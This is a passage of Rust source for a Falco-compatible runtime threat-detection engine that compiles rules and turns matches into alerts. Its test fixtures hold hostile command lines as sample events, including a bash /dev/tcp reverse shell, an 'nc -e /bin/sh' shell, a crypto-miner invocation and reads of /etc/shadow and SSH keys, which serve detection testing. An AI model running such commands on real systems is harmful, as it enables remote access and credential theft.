//! Vigil's runtime detection engine: the Falco rules language over [`model::Event`]s.
//!
//! Load Falco rules files unchanged (plus Vigil's built-in container threat pack), compile them
//! once, then match every event against every enabled rule:
//!
//! ```
//! use detect::RuleSetBuilder;
//! let (rules, report) = RuleSetBuilder::new()
//!     .builtin(true)
//!     .add_source("mine.yaml", "- rule: Hi\n  desc: d\n  condition: evt.type = execve and proc.name = hi\n  output: hi (%proc.name)\n  priority: INFO\n")
//!     .build()
//!     .unwrap();
//! assert!(!report.has_errors(), "{report}");
//! let ev = model::Event {
//!     kind: "execve".into(),
//!     process: Some(model::ProcessInfo { name: "hi".into(), ..Default::default() }.into()),
//!     ..Default::default()
//! };
//! let detections = rules.detect(&ev);
//! assert_eq!(detections[0].rule, "Hi");
//! let alert = detections[0].to_alert(&ev);
//! assert_eq!(alert.labels.get("severity"), Some("info"));
//! ```
//!
//! # Pipeline
//! 1. **Load** ([`loader`]): YAML with line/column for every node; top-level items `rule`,
//!    `macro`, `list`, `required_engine_version`, `required_plugin_versions`; Falco's define /
//!    `append: true` / `override: {key: append|replace}` / enabled-only semantics, across several
//!    sources in order. A bad item is reported with file:line:column and a snippet; the others
//!    still load.
//! 2. **Resolve**: lists inside lists (a list sees lists defined before it, loops rejected),
//!    macros (a macro sees macros defined before its last change; rules see all; loops
//!    rejected), exceptions turned into `and not (...)`.
//! 3. **Compile** ([`parser`] then `compile`): field names become [`model::fields::Field`] ids,
//!    values are parsed into the field's type, lists become hash sets / path-prefix sets,
//!    regexes and substring finders are built; rules are indexed by source and event type.
//! 4. **Match** ([`RuleSet::matches`], [`RuleSet::detect`]): only the rules that can match the
//!    event's type are evaluated; every enabled matching rule is reported (Falco's
//!    `rule_matching: all`). No allocation per event on the hot path.
//! 5. **Alert** ([`Detection::to_alert`]).
//!
//! # Priority → severity
//! | Falco priority | `severity` label |
//! |---|---|
//! | Emergency, Alert, Critical | `critical` |
//! | Error | `error` |
//! | Warning | `warning` |
//! | Notice | `notice` |
//! | Informational, Debug | `info` |
//!
//! # Alert labels and annotations
//! `alertname` (rule name), `severity`, `source="runtime"`, `priority` (Falco name), `rule_source`
//! (`syscall`/`docker`), `tags` (comma-joined rule tags), `mitre` (comma-joined ATT&CK ids found in
//! the tags, e.g. `T1496`), and when known `host`, `container_id` (12 chars), `container_name`,
//! `image`, `k8s_ns`, `k8s_pod`. Annotations: `output` (formatted output), `description`,
//! `summary`. `evidence` is the event as JSON.
//!
//! See `README.md` in this crate for the built-in rule names and the unsupported fields.

mod builtin;
mod compile;
pub mod diag;
mod eval;
pub mod loader;
mod output;
pub mod parser;
pub mod suite;
mod yaml;

pub use builtin::{BUILTIN_RULES, BUILTIN_SOURCE_NAME};
pub use diag::{Diagnostic, LeftOut, Level, LoadReport, Location};
pub use eval::EvalScratch as MatchScratch;

use eval::FxBuild;
use model::{Alert, Event, EventSource, Labels, Severity};
use std::cell::RefCell;
use std::collections::{BTreeMap, HashMap};
use std::path::PathBuf;

/// Falco rule priorities, most severe first.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Priority {
    /// Emergency.
    Emergency,
    /// Alert.
    Alert,
    /// Critical.
    Critical,
    /// Error.
    Error,
    /// Warning.
    Warning,
    /// Notice.
    Notice,
    /// Informational (also `info`).
    Informational,
    /// Debug.
    Debug,
}

impl Priority {
    /// Parses a priority, case-insensitively (`info` is accepted for Informational).
    pub fn parse(s: &str) -> Option<Priority> {
        Some(match s.trim().to_ascii_lowercase().as_str() {
            "emergency" => Priority::Emergency,
            "alert" => Priority::Alert,
            "critical" => Priority::Critical,
            "error" => Priority::Error,
            "warning" => Priority::Warning,
            "notice" => Priority::Notice,
            "informational" | "info" => Priority::Informational,
            "debug" => Priority::Debug,
            _ => return None,
        })
    }

    /// Falco's name: `Emergency` … `Debug`.
    pub fn as_str(self) -> &'static str {
        match self {
            Priority::Emergency => "Emergency",
            Priority::Alert => "Alert",
            Priority::Critical => "Critical",
            Priority::Error => "Error",
            Priority::Warning => "Warning",
            Priority::Notice => "Notice",
            Priority::Informational => "Informational",
            Priority::Debug => "Debug",
        }
    }

    /// The alert severity (see the crate docs for the mapping).
    pub fn severity(self) -> Severity {
        Severity::from_falco_priority(self.as_str())
    }
}

impl std::fmt::Display for Priority {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// A compiled rule's description.
#[derive(Debug, Clone, PartialEq)]
pub struct Rule {
    /// Name (unique).
    pub name: String,
    /// Description.
    pub desc: String,
    /// Priority.
    pub priority: Priority,
    /// Event source (`syscall`, `docker`, …).
    pub source: String,
    /// Tags, sorted.
    pub tags: Vec<String>,
    /// Whether the rule is matched.
    pub enabled: bool,
    /// Condition as written (after appends).
    pub condition: String,
    /// Output format as written.
    pub output: String,
}

/// Rules to evaluate for one event type: (rule number, condition specialized for the type),
/// and the same conditions compiled into one flat program with an entry per rule.
///
/// Guards: the memoized checks that some rule of the bucket tests first are evaluated once,
/// up front, into a bit mask (they would be evaluated for every event anyway). A rule whose
/// top-level `and` requires some of them (`a and b and …`, `… and not g`) is skipped with one
/// mask test when they do not hold, and they are left out of its program.
///
/// Value index: when several rules of the bucket require a value of the same text field
/// (`proc.name in (…)` / `proc.name = x` in their top-level `and`), one hash lookup of the
/// event's value tells which of them can match; the others are skipped, and the test leaves
/// the programs of those rules.
#[derive(Default)]
struct Bucket {
    nodes: Box<[(u32, eval::Node)]>,
    /// The rules, in definition order.
    rules: Box<[Entry]>,
    /// Checks whose results make the guard bits (bit `i` = `guards[i]` holds).
    guards: Box<[eval::CCheck]>,
    values: Option<ValueIndex>,
    prog: eval::Program,
}

/// For one text field (never one needing the scratch): value → the index bits of the rules
/// whose required set holds it.
struct ValueIndex {
    get: model::fields::StrGetter,
    bits: HashMap<Box<str>, u64, FxBuild>,
}

/// A rule of a [`Bucket`].
#[derive(Clone, Copy)]
struct Entry {
    rule: u32,
    /// Entry of the rest of its condition in the program.
    entry: u32,
    /// Guard bits that must be set.
    need_true: u64,
    /// Guard bits that must be clear.
    need_false: u64,
    /// The rule's bit in the value index (0: not indexed).
    value_bit: u64,
}

impl Entry {
    /// Whether the guards and the value index let the rule match.
    #[inline(always)]
    fn admitted(&self, guards: u64, values: u64) -> bool {
        guards & self.need_true == self.need_true
            && guards & self.need_false == 0
            && values & self.value_bit == self.value_bit
    }
}

impl Bucket {
    fn new(nodes: Vec<(u32, eval::Node)>) -> Self {
        Bucket {
            nodes: nodes.into_boxed_slice(),
            ..Default::default()
        }
    }

    /// Chooses the guards and compiles the (id-assigned) conditions into the flat program.
    fn link(&mut self) {
        use eval::Node;
        // A memoized check, possibly negated: (check, wanted result).
        fn memo_check(n: &Node) -> Option<(&eval::CCheck, bool)> {
            match n {
                Node::Check(c) if c.id != u32::MAX => Some((c, true)),
                Node::Not(x) => match &**x {
                    Node::Check(c) if c.id != u32::MAX => Some((c, false)),
                    _ => None,
                },
                _ => None,
            }
        }
        fn conjuncts(n: &Node) -> &[Node] {
            match n {
                Node::And(v) => v,
                other => std::slice::from_ref(other),
            }
        }
        // Guards: the first check evaluated for some rule (evaluated for every event anyway).
        let mut guards: Vec<eval::CCheck> = Vec::new();
        for (_, n) in self.nodes.iter() {
            if let Some(c) = eval::first_check(n)
                && c.id != u32::MAX
                && !guards.iter().any(|g| g.id == c.id)
                && guards.len() < 64
            {
                guards.push(c.clone());
            }
        }
        let mut rules = Vec::with_capacity(self.nodes.len());
        let mut rests: Vec<Vec<Node>> = Vec::with_capacity(self.nodes.len());
        for (i, n) in self.nodes.iter() {
            let (mut need_true, mut need_false) = (0u64, 0u64);
            let mut rest: Vec<Node> = Vec::new();
            for part in conjuncts(n) {
                let bit = memo_check(part).and_then(|(c, want)| {
                    let at = guards.iter().position(|g| g.id == c.id)?;
                    Some((1u64 << at, want))
                });
                match bit {
                    Some((b, true)) => need_true |= b,
                    Some((b, false)) => need_false |= b,
                    None => rest.push(part.clone()),
                }
            }
            rules.push(Entry {
                rule: *i,
                entry: eval::PC_TRUE,
                need_true,
                need_false,
                value_bit: 0,
            });
            rests.push(rest);
        }
        self.values = index_values(&mut rules, &mut rests);
        let mut prog = eval::Program::default();
        for (e, mut rest) in rules.iter_mut().zip(rests) {
            let rest = match rest.len() {
                0 => Node::Const(true),
                1 => rest.pop().unwrap_or(Node::Const(true)),
                _ => Node::And(rest.into()),
            };
            e.entry = prog.add(&rest);
        }
        self.rules = rules.into();
        self.guards = guards.into();
        self.prog = prog;
    }

    /// The value-index bits for `ev` (all ones without an index).
    #[inline]
    fn value_bits(&self, ev: &Event) -> u64 {
        match &self.values {
            None => u64::MAX,
            Some(ix) => match ix.get.get(ev) {
                Ok(Some(v)) => ix.bits.get(v).copied().unwrap_or(0),
                Ok(None) => 0,
                Err(_) => u64::MAX,
            },
        }
    }

    /// The guard bits for `ev` (first thing evaluated for it: no memo lookups).
    #[inline]
    fn guard_bits(&self, ev: &Event, s: &mut MatchScratch) -> u64 {
        let mut bits = 0;
        for (i, g) in self.guards.iter().enumerate() {
            if eval::check_first(g, ev, s) {
                bits |= 1 << i;
            }
        }
        bits
    }

    /// Calls `f` with the number of every rule matching `ev`, in definition order.
    #[inline]
    fn each_match(&self, ev: &Event, s: &mut MatchScratch, mut f: impl FnMut(u32)) {
        let values = self.value_bits(ev);
        let bits = self.guard_bits(ev, s);
        for e in &self.rules {
            if e.admitted(bits, values) && self.prog.run(e.entry, ev, s) {
                f(e.rule);
            }
        }
    }

    fn len(&self) -> usize {
        self.nodes.len()
    }
}

/// Builds the value index of a bucket: picks the text field that the most rules require a
/// value of (at least 3 rules), gives each of those rules (up to 64) a bit, and takes the
/// indexed test out of their remaining conjuncts `rests`.
fn index_values(rules: &mut [Entry], rests: &mut [Vec<eval::Node>]) -> Option<ValueIndex> {
    use eval::{Node, Test};
    // The values a conjunct requires of a directly read text field.
    fn required(n: &eval::Node) -> Option<(&model::fields::Field, Vec<String>)> {
        let Node::Check(c) = n else { return None };
        c.str_get?;
        if c.lhs.field.needs_scratch() {
            return None;
        }
        match &c.test {
            Test::StrIn(set) => Some((&c.lhs.field, set.items())),
            Test::StrEq(v, false) => Some((&c.lhs.field, vec![v.to_string()])),
            _ => None,
        }
    }
    let mut counts: Vec<(model::fields::Field, usize)> = Vec::new();
    for rest in rests.iter() {
        let mut seen: Vec<&model::fields::Field> = Vec::new();
        for (f, _) in rest.iter().filter_map(required) {
            if seen.contains(&f) {
                continue;
            }
            seen.push(f);
            match counts.iter_mut().find(|(g, _)| g == f) {
                Some((_, n)) => *n += 1,
                None => counts.push((f.clone(), 1)),
            }
        }
    }
    let (field, _) = counts
        .into_iter()
        .filter(|(_, n)| *n >= 3)
        .max_by_key(|(_, n)| *n)?;
    let get = field.str_getter()?;
    let mut bits: HashMap<Box<str>, u64, FxBuild> = HashMap::default();
    let mut next = 0u32;
    for (e, rest) in rules.iter_mut().zip(rests.iter_mut()) {
        if next == 64 {
            break;
        }
        let Some(at) = rest
            .iter()
            .position(|n| required(n).is_some_and(|(f, _)| *f == field))
        else {
            continue;
        };
        let Some((_, values)) = required(&rest[at]) else {
            continue;
        };
        let bit = 1u64 << next;
        next += 1;
        for v in values {
            *bits.entry(v.into_boxed_str()).or_default() |= bit;
        }
        e.value_bit = bit;
        rest.remove(at);
    }
    Some(ValueIndex { get, bits })
}

/// Per-source index: by event type, the rules that can match it with their condition
/// specialized for that type; and the rules that can match any type.
#[derive(Default)]
struct SourceIndex {
    by_type: HashMap<Box<str>, Bucket, FxBuild>,
    any: Bucket,
}

/// Compiled rules, ready to match events. Cheap to share (`Send + Sync`).
pub struct RuleSet {
    compiled: Vec<compile::Compiled>,
    index: [SourceIndex; 3],
    /// Number of distinct memoized checks.
    checks: u32,
}

fn source_slot(s: EventSource) -> usize {
    match s {
        EventSource::Syscall => 0,
        EventSource::Docker => 1,
        EventSource::K8sAudit => 2,
    }
}

fn source_name_slot(s: &str) -> Option<usize> {
    match s {
        "syscall" => Some(0),
        "docker" => Some(1),
        "k8s_audit" => Some(2),
        _ => None,
    }
}

thread_local! {
    static SCRATCH: RefCell<MatchScratch> = RefCell::new(MatchScratch::default());
}

impl RuleSet {
    fn new(compiled: Vec<compile::Compiled>) -> Self {
        let mut index: [SourceIndex; 3] = Default::default();
        for (slot, idx) in index.iter_mut().enumerate() {
            let mut any = Vec::new();
            let mut by_type: BTreeMap<String, Vec<u32>> = BTreeMap::new();
            for (i, c) in compiled.iter().enumerate() {
                if !c.rule.enabled || source_name_slot(&c.rule.source) != Some(slot) {
                    continue;
                }
                match &c.types {
                    compile::TypeSet::Only(types) => {
                        for t in types {
                            by_type.entry(t.clone()).or_default().push(i as u32);
                        }
                    }
                    compile::TypeSet::AllExcept(_) => any.push(i as u32),
                }
            }
            idx.by_type = by_type
                .into_iter()
                .map(|(t, mut v)| {
                    v.extend(&any);
                    v.sort_unstable();
                    v.dedup();
                    let nodes: Vec<(u32, eval::Node)> = v
                        .into_iter()
                        .map(|i| (i, compile::specialize(&compiled[i as usize].cond, Some(&t))))
                        .filter(|(_, n)| !matches!(n, eval::Node::Const(false)))
                        .collect();
                    (t.into_boxed_str(), Bucket::new(nodes))
                })
                .collect();
            idx.any = Bucket::new(
                any.into_iter()
                    .map(|i| (i, compile::specialize(&compiled[i as usize].cond, None)))
                    .collect(),
            );
        }
        let mut buckets: Vec<Vec<&mut eval::Node>> = Vec::new();
        for idx in index.iter_mut() {
            for v in idx.by_type.values_mut() {
                buckets.push(v.nodes.iter_mut().map(|(_, n)| n).collect());
            }
            buckets.push(idx.any.nodes.iter_mut().map(|(_, n)| n).collect());
        }
        let checks = compile::assign_ids(&mut buckets);
        for idx in index.iter_mut() {
            idx.by_type.values_mut().for_each(Bucket::link);
            idx.any.link();
        }
        RuleSet {
            compiled,
            index,
            checks,
        }
    }

    /// Every compiled rule (enabled or not), in definition order.
    pub fn rules(&self) -> impl Iterator<Item = &Rule> {
        self.compiled.iter().map(|c| &c.rule)
    }

    /// The rule named `name`.
    pub fn rule(&self, name: &str) -> Option<&Rule> {
        self.rules().find(|r| r.name == name)
    }

    /// Number of compiled rules.
    pub fn len(&self) -> usize {
        self.compiled.len()
    }

    /// Whether no rule compiled.
    pub fn is_empty(&self) -> bool {
        self.compiled.is_empty()
    }

    /// Number of enabled rules.
    pub fn enabled_len(&self) -> usize {
        self.compiled.iter().filter(|c| c.rule.enabled).count()
    }

    /// The event types of `source` that some enabled rule can match, sorted (Falco's "interest
    /// set"): a sensor need not build events of other types for these rules. `None` when a rule
    /// can match events of any type (its condition does not pin `evt.type`).
    pub fn event_types(&self, source: EventSource) -> Option<Vec<String>> {
        let idx = &self.index[source_slot(source)];
        if !idx.any.nodes.is_empty() {
            return None;
        }
        let mut types: Vec<String> = idx
            .by_type
            .iter()
            .filter(|(_, b)| !b.nodes.is_empty())
            .map(|(t, _)| t.to_string())
            .collect();
        types.sort_unstable();
        Some(types)
    }

    fn candidates(&self, ev: &Event) -> &Bucket {
        let idx = &self.index[source_slot(ev.source)];
        idx.by_type.get(&*ev.kind).unwrap_or(&idx.any)
    }

    /// Calls `f` with every enabled rule matching `ev`, in definition order, using the caller's
    /// scratch buffers (the fastest way to match many events on one thread).
    pub fn matches_with<'a>(
        &'a self,
        ev: &Event,
        scratch: &mut MatchScratch,
        mut f: impl FnMut(&'a Rule),
    ) {
        scratch.reserve_checks(self.checks);
        scratch.reset();
        self.candidates(ev)
            .each_match(ev, scratch, |i| f(&self.compiled[i as usize].rule));
    }

    /// Calls `f` with every enabled rule matching `ev`, in definition order.
    pub fn matches<'a>(&'a self, ev: &Event, mut f: impl FnMut(&'a Rule)) {
        let mut hits: Vec<u32> = Vec::new();
        SCRATCH.with(|cell| match cell.try_borrow_mut() {
            Ok(mut s) => self.collect(ev, &mut s, &mut hits),
            Err(_) => self.collect(ev, &mut MatchScratch::default(), &mut hits),
        });
        for i in hits {
            f(&self.compiled[i as usize].rule);
        }
    }

    fn collect(&self, ev: &Event, s: &mut MatchScratch, hits: &mut Vec<u32>) {
        s.reserve_checks(self.checks);
        s.reset();
        self.candidates(ev).each_match(ev, s, |i| hits.push(i));
    }

    /// For each source and event type, how many rules are evaluated for an event of that type
    /// (`"*"` = any other type), and the total size of their specialized conditions.
    pub fn index_stats(&self) -> Vec<(&'static str, String, usize, usize)> {
        let mut out = Vec::new();
        for (slot, name) in ["syscall", "docker", "k8s_audit"].iter().enumerate() {
            let idx = &self.index[slot];
            let mut types: Vec<_> = idx.by_type.iter().collect();
            types.sort_by(|a, b| a.0.cmp(b.0));
            for (t, v) in types {
                let size = v.nodes.iter().map(|(_, n)| eval::node_size(n)).sum();
                out.push((*name, t.to_string(), v.len(), size));
            }
            if idx.any.len() > 0 {
                let size = idx.any.nodes.iter().map(|(_, n)| eval::node_size(n)).sum();
                out.push((*name, "*".to_string(), idx.any.len(), size));
            }
        }
        out
    }

    /// Time spent evaluating each rule over `events` (slowest first): `(rule, evaluations,
    /// total time)`. For tuning; timing overhead is included.
    pub fn profile(&self, events: &[Event]) -> Vec<(String, usize, std::time::Duration)> {
        let mut acc = vec![(0usize, std::time::Duration::ZERO); self.compiled.len()];
        let mut s = MatchScratch::default();
        for ev in events {
            s.reserve_checks(self.checks);
            s.reset();
            let b = self.candidates(ev);
            let values = b.value_bits(ev);
            let bits = b.guard_bits(ev, &mut s);
            for e in &b.rules {
                let t = std::time::Instant::now();
                let _ = e.admitted(bits, values) && b.prog.run(e.entry, ev, &mut s);
                let a = &mut acc[e.rule as usize];
                a.0 += 1;
                a.1 += t.elapsed();
            }
        }
        let mut out: Vec<_> = acc
            .into_iter()
            .enumerate()
            .filter(|(_, (n, _))| *n > 0)
            .map(|(i, (n, d))| (self.compiled[i].rule.name.clone(), n, d))
            .collect();
        out.sort_by_key(|x| std::cmp::Reverse(x.2));
        out
    }

    /// The condition of `rule` as evaluated for events of type `kind` (source slot 0 = syscall,
    /// 1 = docker), one node per line; empty when the rule is not evaluated for that type.
    pub fn debug_tree(&self, source: usize, kind: &str, rule: &str) -> String {
        let v = self.index[source]
            .by_type
            .get(kind)
            .map(|v| &v.nodes[..])
            .unwrap_or(&[]);
        v.iter()
            .filter(|(i, _)| self.compiled[*i as usize].rule.name == rule)
            .map(|(_, n)| eval::debug_tree(n, 0))
            .collect()
    }

    /// Number of enabled rules matching `ev` (no allocation; for benchmarks).
    pub fn count_matches(&self, ev: &Event, scratch: &mut MatchScratch) -> usize {
        let mut n = 0;
        self.matches_with(ev, scratch, |_| n += 1);
        n
    }

    /// Every detection for `ev`, with formatted outputs.
    pub fn detect(&self, ev: &Event) -> Vec<Detection> {
        let mut scratch = MatchScratch::default();
        let mut hits = Vec::new();
        self.collect(ev, &mut scratch, &mut hits);
        hits.into_iter()
            .map(|i| {
                let c = &self.compiled[i as usize];
                let (output, output_fields) = c.output.format(ev, &mut scratch);
                Detection {
                    rule: c.rule.name.clone(),
                    priority: c.rule.priority,
                    source: c.rule.source.clone(),
                    tags: c.rule.tags.clone(),
                    desc: c.rule.desc.clone(),
                    output,
                    output_fields,
                    time: ev.ts,
                    hostname: ev.hostname.to_string(),
                }
            })
            .collect()
    }
}

/// One rule matching one event.
#[derive(Debug, Clone, PartialEq)]
pub struct Detection {
    /// Rule name.
    pub rule: String,
    /// Rule priority.
    pub priority: Priority,
    /// Rule source.
    pub source: String,
    /// Rule tags.
    pub tags: Vec<String>,
    /// Rule description.
    pub desc: String,
    /// Formatted output.
    pub output: String,
    /// Every field in the output with its value (`None` = `<NA>`), in output order.
    pub output_fields: Vec<(String, Option<String>)>,
    /// Event time.
    pub time: model::Time,
    /// Event host.
    pub hostname: String,
}

/// MITRE ATT&CK technique ids among tags (`T1496`, `T1059.004`).
pub fn mitre_ids(tags: &[String]) -> Vec<String> {
    tags.iter()
        .filter(|t| {
            let b = t.as_bytes();
            b.len() >= 5
                && (b[0] == b'T' || b[0] == b't')
                && b[1..5].iter().all(u8::is_ascii_digit)
                && (b.len() == 5
                    || (b.len() == 9 && b[5] == b'.' && b[6..].iter().all(u8::is_ascii_digit)))
        })
        .map(|t| t.to_ascii_uppercase())
        .collect()
}

impl Detection {
    /// The value of an output field, if present and known.
    pub fn field(&self, name: &str) -> Option<&str> {
        self.output_fields
            .iter()
            .find(|(n, _)| n == name)
            .and_then(|(_, v)| v.as_deref())
    }

    /// Falco's text line: `<time>: <Priority> <output>`.
    pub fn falco_line(&self) -> String {
        format!(
            "{}: {} {}",
            self.time.format("%H:%M:%S%.9f"),
            self.priority,
            self.output
        )
    }

    /// Falco's JSON alert (`time`, `rule`, `priority`, `source`, `hostname`, `output`, `tags`,
    /// `output_fields`).
    pub fn to_falco_json(&self) -> serde_json::Value {
        let fields: serde_json::Map<String, serde_json::Value> = self
            .output_fields
            .iter()
            .map(|(k, v)| {
                (
                    k.clone(),
                    v.as_ref().map_or(serde_json::Value::Null, |v| {
                        serde_json::Value::String(v.clone())
                    }),
                )
            })
            .collect();
        serde_json::json!({
            "time": self.time.format("%Y-%m-%dT%H:%M:%S%.9fZ").to_string(),
            "rule": self.rule,
            "priority": self.priority.as_str(),
            "source": self.source,
            "hostname": self.hostname,
            "output": self.falco_line(),
            "tags": self.tags,
            "output_fields": fields,
        })
    }

    /// The detection as an alert (see the crate docs for labels and annotations); the event is
    /// kept as evidence.
    pub fn to_alert(&self, event: &Event) -> Alert {
        let mut labels = Labels::new();
        labels.set("alertname", self.rule.clone());
        labels.set("severity", self.priority.severity().as_str());
        labels.set("source", "runtime");
        labels.set("priority", self.priority.as_str());
        labels.set("rule_source", self.source.clone());
        labels.set("tags", self.tags.join(","));
        labels.set("mitre", mitre_ids(&self.tags).join(","));
        labels.set("host", event.hostname.to_string());
        if let Some(c) = &event.container {
            labels.set("container_id", c.short_id());
            labels.set("container_name", c.name.clone());
            labels.set("image", c.image.clone());
            labels.set("k8s_ns", c.k8s_ns.clone());
            labels.set("k8s_pod", c.k8s_pod.clone());
        }
        let mut alert = Alert::new(labels, event.ts);
        alert.annotations.set("output", self.output.clone());
        alert.annotations.set("description", self.desc.trim());
        alert.annotations.set(
            "summary",
            match &event.container {
                Some(c) if !c.name.is_empty() => format!("{} in container {}", self.rule, c.name),
                _ => self.rule.clone(),
            },
        );
        alert.evidence = serde_json::to_value(event).ok();
        alert
    }
}

/// A rules file could not be read.
#[derive(Debug, thiserror::Error)]
pub enum LoadError {
    /// Reading a file failed.
    #[error("cannot read rules file {path}: {source}")]
    Read {
        /// The file.
        path: PathBuf,
        /// Why.
        #[source]
        source: std::io::Error,
    },
}

enum Input {
    File(PathBuf),
    Text(String, String),
}

/// Collects rule sources, then compiles them into a [`RuleSet`] and a [`LoadReport`].
///
/// Sources are applied in the order added; the built-in pack (when enabled) comes first so user
/// files can override or disable its rules.
#[derive(Default)]
pub struct RuleSetBuilder {
    builtin: bool,
    inputs: Vec<Input>,
}

impl RuleSetBuilder {
    /// An empty builder (built-in pack off).
    pub fn new() -> Self {
        Self::default()
    }

    /// Whether to load the built-in rule pack first.
    pub fn builtin(mut self, on: bool) -> Self {
        self.builtin = on;
        self
    }

    /// Adds a rules file (read at [`build`](Self::build)).
    pub fn add_file(mut self, path: impl Into<PathBuf>) -> Self {
        self.inputs.push(Input::File(path.into()));
        self
    }

    /// Adds rules text under a name used in diagnostics.
    pub fn add_source(mut self, name: impl Into<String>, text: impl Into<String>) -> Self {
        self.inputs.push(Input::Text(name.into(), text.into()));
        self
    }

    /// Loads and compiles. Bad items are reported in the [`LoadReport`] (partial success);
    /// only an unreadable file is an `Err`.
    pub fn build(self) -> Result<(RuleSet, LoadReport), LoadError> {
        let mut sources = Vec::new();
        if self.builtin {
            sources.push(loader::Source {
                name: BUILTIN_SOURCE_NAME.to_string(),
                text: BUILTIN_RULES.to_string(),
            });
        }
        for i in self.inputs {
            match i {
                Input::File(p) => {
                    let text = std::fs::read_to_string(&p).map_err(|source| LoadError::Read {
                        path: p.clone(),
                        source,
                    })?;
                    sources.push(loader::Source {
                        name: p.display().to_string(),
                        text,
                    });
                }
                Input::Text(name, text) => sources.push(loader::Source { name, text }),
            }
        }
        Ok(build_sources(&sources))
    }
}

/// Loads and compiles already-read sources.
pub fn build_sources(sources: &[loader::Source]) -> (RuleSet, LoadReport) {
    let mut col = loader::Collected::default();
    let mut diags = Vec::new();
    for i in 0..sources.len() {
        loader::read_source(sources, i, &mut col, &mut diags);
    }
    let (compiled, left_out, cdiags) = compile::compile(sources, &col);
    diags.extend(cdiags);
    let report = LoadReport {
        sources: sources.iter().map(|s| s.name.clone()).collect(),
        rules: compiled.len(),
        rules_enabled: compiled.iter().filter(|c| c.rule.enabled).count(),
        macros: col.macros.len(),
        lists: col.lists.len(),
        left_out,
        diagnostics: diags,
    };
    (RuleSet::new(compiled), report)
}

#[cfg(test)]
mod tests {
    use super::*;
    use model::{Ancestor, ContainerInfo, FdInfo, ProcessInfo, UserInfo};

    /// Events of many shapes: each event type of the index, files, sockets, processes from
    /// the rule lists, host and container.
    fn events() -> Vec<Event> {
        let files: &[(&str, &str)] = &[
            ("/etc/shadow", "O_RDONLY"),
            ("/etc/passwd", "O_WRONLY|O_CREAT"),
            ("/root/.ssh/id_rsa", "O_RDONLY|O_CLOEXEC"),
            ("/home/u/.ssh/authorized_keys", "O_RDWR|O_TRUNC"),
            ("/usr/bin/kdevtmpfsi", "O_WRONLY|O_CREAT|O_TRUNC"),
            ("/etc/cron.d/job", "O_WRONLY"),
            ("/dev/mem", "O_RDWR"),
            ("/var/log/auth.log", "O_WRONLY|O_TRUNC"),
            ("/proc/1/environ", "O_RDONLY"),
            ("/etc/ld.so.cache", "O_RDONLY|O_CLOEXEC"),
            ("/tmp/x/../../etc/shadow", "O_RDONLY"),
            ("/host/etc/hosts", "O_RDONLY"),
            ("/etc/apt/sources.list", "O_WRONLY"),
            ("/root/.bash_history", "O_WRONLY|O_TRUNC"),
        ];
        let procs: &[(&str, &[&str])] = &[
            ("sshd", &["-D"]),
            ("bash", &[]),
            ("sh", &["-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"]),
            ("nc", &["-e", "/bin/sh", "1.2.3.4", "4444"]),
            ("apt-get", &["install", "curl"]),
            ("xmrig", &["-o", "stratum+tcp://pool:3333"]),
            ("tar", &["czf", "/tmp/x.tgz", "/etc"]),
            ("python3", &["app.py"]),
            ("find", &["/", "-name", "id_rsa"]),
            ("grep", &["-r", "password", "/"]),
            ("crontab", &["-e"]),
            ("cat", &["/etc/shadow"]),
        ];
        let parents = ["sh", "bash", "containerd-shim", "sshd", "systemd", "runc"];
        let mut out = Vec::new();
        for (k, (name, args)) in procs.iter().enumerate() {
            for j in 0..parents.len() {
                for in_container in [false, true] {
                    let process = ProcessInfo {
                        pid: 100 + k as u32,
                        name: name.to_string(),
                        exe: format!("/usr/bin/{name}"),
                        exepath: format!("/usr/bin/{name}"),
                        args: args.iter().map(|a| a.to_string()).collect(),
                        tty: if j % 2 == 0 { 0 } else { 34816 },
                        vpid: Some(if j == 0 { 1 } else { 7 }),
                        user: UserInfo {
                            uid: 0,
                            name: "root".into(),
                            loginuid: -1,
                            ..Default::default()
                        },
                        ancestors: parents[j..]
                            .iter()
                            .map(|p| {
                                Ancestor {
                                    name: p.to_string(),
                                    ..Default::default()
                                }
                                .into()
                            })
                            .collect(),
                        exe_upper_layer: in_container && k % 3 == 0,
                        ..Default::default()
                    };
                    let container = in_container.then(|| ContainerInfo {
                        id: "0123456789abcdef".into(),
                        name: "web".into(),
                        image: "servethehome/monero_cpu_minergate:latest".into(),
                        image_repository: if k % 2 == 0 {
                            "servethehome/monero_cpu_minergate".into()
                        } else {
                            "nginx".into()
                        },
                        privileged: j % 3 == 0,
                        ..Default::default()
                    });
                    let base = Event {
                        kind: "execve".into(),
                        res: Some(0),
                        process: Some(process.into()),
                        container: container.map(Into::into),
                        ..Default::default()
                    };
                    out.push(base.clone());
                    for (path, flags) in files {
                        let mut e = base.clone();
                        e.kind = "openat".into();
                        e.res = Some(3);
                        e.args.insert("flags".into(), flags.to_string());
                        e.args.insert("name".into(), path.to_string());
                        e.fd = Some(FdInfo {
                            typechar: 'f',
                            path: path.to_string(),
                            ..Default::default()
                        });
                        out.push(e);
                    }
                    for (ip, port) in [("1.2.3.4", 4444u16), ("10.0.0.1", 443), ("8.8.8.8", 53)] {
                        for kind in ["connect", "accept4"] {
                            let mut e = base.clone();
                            e.kind = kind.into();
                            e.fd = Some(FdInfo {
                                typechar: '4',
                                cip: "172.17.0.2".parse().ok(),
                                cport: Some(40000),
                                sip: ip.parse().ok(),
                                sport: Some(port),
                                l4proto: if port == 53 { "udp" } else { "tcp" }.into(),
                                local_is_server: kind == "accept4",
                                path: String::new(),
                            });
                            out.push(e);
                        }
                    }
                    let mut e = base.clone();
                    e.source = EventSource::Docker;
                    e.kind = "container_start".into();
                    e.process = None;
                    out.push(e);
                }
            }
        }
        out
    }

    /// Guards, programs and memoized checks give exactly what evaluating each rule's
    /// condition tree on its own gives, on the upstream Falco rules plus the built-in pack.
    #[test]
    fn flat_programs_match_condition_trees() {
        let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/compat/falco");
        let mut b = RuleSetBuilder::new().builtin(true);
        for f in [
            "falco_rules.yaml",
            "falco-incubating_rules.yaml",
            "falco-sandbox_rules.yaml",
        ] {
            if dir.join(f).exists() {
                b = b.add_file(dir.join(f));
            }
        }
        let (rules, report) = b.build().unwrap();
        assert!(!report.has_errors(), "{report}");
        let guarded: usize = rules
            .index
            .iter()
            .flat_map(|i| i.by_type.values())
            .map(|b| {
                b.rules
                    .iter()
